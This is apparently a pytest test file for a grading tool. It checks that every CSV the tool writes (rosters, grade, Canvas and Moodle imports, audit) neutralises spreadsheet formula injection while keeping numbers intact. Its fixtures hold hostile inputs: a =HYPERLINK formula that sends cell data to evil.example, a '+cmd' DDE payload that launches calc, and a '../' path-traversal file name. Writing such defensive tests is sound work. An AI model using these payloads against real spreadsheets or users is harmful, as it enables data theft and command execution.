"""Every CSV a term writes is safe to open (issue 64): with roster names as students set them in
the LMS (``=HYPERLINK(...)``, ``+cmd|...``, ``@SUM``, ``-2+3``) and mail subjects, file names
and a Message-ID like them, the real commands run (collect, final with its Canvas and Moodle
files, marks export, audit) and no cell of any CSV they write is one a spreadsheet would run;
the numbers stay numbers, and the LMS files still import as the LMS tests read them. The other
writers of grader/outputs/csvfile.py: `grader grade` (grades.csv, also rewritten by `grader
watch` and the web regrade) and `grader similarity` (pairs.csv), whose students are named by the
hand-ins' file names, and `grader roster --from-lti` (roster.csv). `grader variants`' CSV holds
roster ids (which start with a letter or digit: grader/roster/people.py) and the instructor's
definitions, nothing a student sets."""

from __future__ import annotations

import csv
import re
import shutil
import subprocess
import sys
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from course_kit import ROOT, auto_result, full_marks, make_course
from lms_importers import canvas_import, moodle_import
from mailkit import gmail, notebook, takeout_mbox
from sandbox_fence import FENCE

from grader import cli
from grader.gradebook.course_book import CourseBook
from grader.lms.lti.members import write_roster
from grader.outputs.csvfile import plain_cell, safe_cell
from grader.roster import Person, load_roster

HYPERLINK = '=HYPERLINK("http://evil.example/?g="&D2,"open")'
ROSTER = (
    "id,name,email,role\n"
    f'CS21B001,"{HYPERLINK.replace(chr(34), chr(34) * 2)}",asha@example.edu,student\n'
    "EE21B002,+cmd|' /C calc'!A0,rahul@example.edu,student\n"
    "ME21B003,-2+3,priya@example.edu,student\n"
    "SE21B004,@SUM(1+1),zoe@example.edu,student\n"
)
FORMULA = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
DAY = datetime(2023, 1, 15, 10, 0, tzinfo=UTC)


def runnable_cells(path: Path) -> list[tuple[int, str]]:
    """(row, cell) of each cell a spreadsheet would take as a formula."""
    with path.open(newline="", encoding="utf-8") as stream:
        return [
            (number, cell)
            for number, row in enumerate(csv.reader(stream), 1)
            for cell in row
            if cell.startswith(FORMULA) and not NUMBER.fullmatch(cell)
        ]


def mailbox(path: Path) -> Path:
    nb = notebook("# Assignment 1: LSTM gates")
    asha = gmail(
        "Asha <asha@example.edu>", DAY, HYPERLINK, "my notebook", attachments=[("a.ipynb", nb)]
    )
    asha.replace_header("Message-ID", "<-1+1@evil.example>")
    again = gmail(
        "Asha <asha@example.edu>",
        DAY + timedelta(hours=1),
        "@again",
        "again",
        attachments=[("a.ipynb", notebook("# Assignment 1: LSTM gates", "x = 2"))],
    )
    again.replace_header("Message-ID", "<-1+1@evil.example>")
    question = gmail("Rahul <rahul@example.edu>", DAY, "=1+1", "a question, no file")
    stranger = gmail(
        "-Someone <someone@elsewhere.org>",
        DAY,
        "+SUM(1)",
        "see attached",
        attachments=[("=x.ipynb", nb)],
    )
    hostile = gmail("Zoe <zoe@example.edu>", DAY, "-p1", "nb", attachments=[("x.ipynb", nb)])
    hostile.get_payload()[-1].set_param("filename", "../=evil.ipynb", "Content-Disposition")
    return takeout_mbox(path, [asha, asha, again, question, stranger, hostile])


def test_no_csv_of_a_term_holds_a_cell_a_spreadsheet_would_run(tmp_path: Path, capsys) -> None:
    course, projects = make_course(tmp_path, ROSTER)
    submissions, graded = tmp_path / "submissions", tmp_path / "graded"
    inbox = mailbox(tmp_path / "Takeout" / "All mail.mbox")
    args = ["collect", str(inbox), "--course", str(course.path), "--out", str(submissions)]
    assert cli.main(args) == 0
    for position, student in enumerate(("CS21B001", "EE21B002", "ME21B003", "SE21B004")):
        auto_result(graded, "lstm_gates", student, 50 + 10 * position)
    with CourseBook(graded / "gradebook.sqlite") as book:
        full_marks(book, projects.rubric, "CS21B001", "project1")
    common = ["--course", str(course.path), "--out", str(graded)]
    assert cli.main(["final", *common]) == 0
    assert cli.main(["marks", "export", *common, str(tmp_path / "marks.csv")]) == 0
    assert cli.main(["audit", *common, "--csv", str(tmp_path / "audit.csv")]) == 0
    capsys.readouterr()

    written = sorted(p for p in tmp_path.rglob("*.csv") if p.name != "roster.csv")
    names = {p.name for p in written}
    for expected in (
        "index.csv",
        "UNATTRIBUTED.csv",
        "NO_HANDIN.csv",
        "COPIES.csv",
        "REJECTED.csv",
        "REPLACED.csv",
        "final-grades.csv",
        "canvas-import.csv",
        "moodle-import.csv",
        "marks.csv",
        "audit.csv",
    ):
        assert expected in names, names
    assert {p.name: runnable_cells(p) for p in written} == {p.name: [] for p in written}
    # what was neutralised is still there to read, behind its quote
    index = (submissions / "index.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK" in index and "'@SUM(1+1)" in index and "'-2+3" in index
    assert "'=1+1" in (submissions / "NO_HANDIN.csv").read_text(encoding="utf-8")
    assert "'-1+1@evil.example" in (submissions / "COPIES.csv").read_text(encoding="utf-8")

    # the LMS files import as before: students matched by their ids, grades numbers
    final = graded / "final"
    gates = course.component("lstm_gates").title
    before = {s: {gates: 90.0} for s in ("CS21B001", "EE21B002", "ME21B003", "SE21B004")}
    canvas, _ = canvas_import(final / "canvas-import.csv", before)
    assert canvas["EE21B002"][gates] == 60.0
    moodle = moodle_import(final / "moodle-import.csv", before, identity_column="ID number")
    assert moodle["SE21B004"][gates] == 80.0


@pytest.mark.slow
def test_grades_and_pairs_of_hand_ins_named_as_formulas_hold_no_cell_a_spreadsheet_would_run(
    tmp_path: Path, capsys
) -> None:
    # a student names the file they hand in; `grader grade` and `grader similarity` name the
    # student by it. One notebook is run (in the tests' pid fence, as every student notebook
    # is), one bundle is refused before anything runs; the copies are only read.
    handins = tmp_path / "handins"
    handins.mkdir()
    sample = ROOT / "examples" / "lstm_gates" / "asha.ipynb"
    for name in ("=1+1.ipynb", "@SUM(1+1).ipynb", "-2+3.ipynb"):
        shutil.copy(sample, handins / name)
    (handins / "+cmd.zip").write_bytes(b"not a zip")
    assignment = tmp_path / "lstm_gates"
    shutil.copytree(ROOT / "assignments" / "lstm_gates", assignment)
    graded = tmp_path / "graded"
    done = subprocess.run(
        [*FENCE, sys.executable, "-m", "grader.cli", "grade", "--assignment", str(assignment),
         "--out", str(graded), "--seed", "7", str(handins / "=1+1.ipynb"),
         str(handins / "+cmd.zip")],
        capture_output=True, text=True, timeout=600,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    pages = tmp_path / "similarity"
    copies = [str(handins / n) for n in ("=1+1.ipynb", "@SUM(1+1).ipynb", "-2+3.ipynb")]
    assert cli.main(["similarity", "--out", str(pages), *copies]) == 0
    capsys.readouterr()

    grades, pairs = graded / "grades.csv", pages / "pairs.csv"
    assert {p.name for p in tmp_path.rglob("*.csv")} == {"grades.csv", "pairs.csv"}
    assert {p.name: runnable_cells(p) for p in (grades, pairs)} == {
        p.name: [] for p in (grades, pairs)
    }
    with grades.open(newline="", encoding="utf-8") as stream:
        rows = {row["student"]: row for row in csv.DictReader(stream)}
    assert set(rows) == {"'=1+1", "'+cmd"}
    assert (rows["'=1+1"]["status"], rows["'=1+1"]["score"]) == ("graded", "100")
    assert rows["'+cmd"]["reason"].startswith("bundle rejected")
    with pairs.open(newline="", encoding="utf-8") as stream:
        named = {(row["student_a"], row["student_b"]) for row in csv.DictReader(stream)}
    assert named == {("'-2+3", "'=1+1"), ("'-2+3", "'@SUM(1+1)"), ("'=1+1", "'@SUM(1+1)")}


def test_the_writer_keeps_numbers_and_the_reader_gets_back_what_was_written() -> None:
    for number in ("-5", "+2.5", "-0.25", "-1e3", "42", ""):
        assert safe_cell(number) == number
    assert safe_cell(-5) == -5  # a number written as one
    for formula in ("=1+1", "+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx", "-", "-inf"):
        assert safe_cell(formula) == "'" + formula
        assert plain_cell(safe_cell(formula)) == formula
    assert plain_cell("'quoted by the student") == "'quoted by the student"


def test_a_roster_written_from_the_lms_is_safe_and_reads_back_as_the_lms_gave_it(tmp_path):
    # `grader roster --from-lti` writes roster.csv with the names students set in the LMS
    people = [
        Person("CS21B001", HYPERLINK, ("asha@example.edu",), "student"),
        Person("EE21B002", "-2+3", ("rahul@example.edu",), "student"),
    ]
    path = tmp_path / "roster.csv"
    write_roster(path, people)
    assert runnable_cells(path) == []
    assert [p.name for p in load_roster(path).students] == [HYPERLINK, "-2+3"]
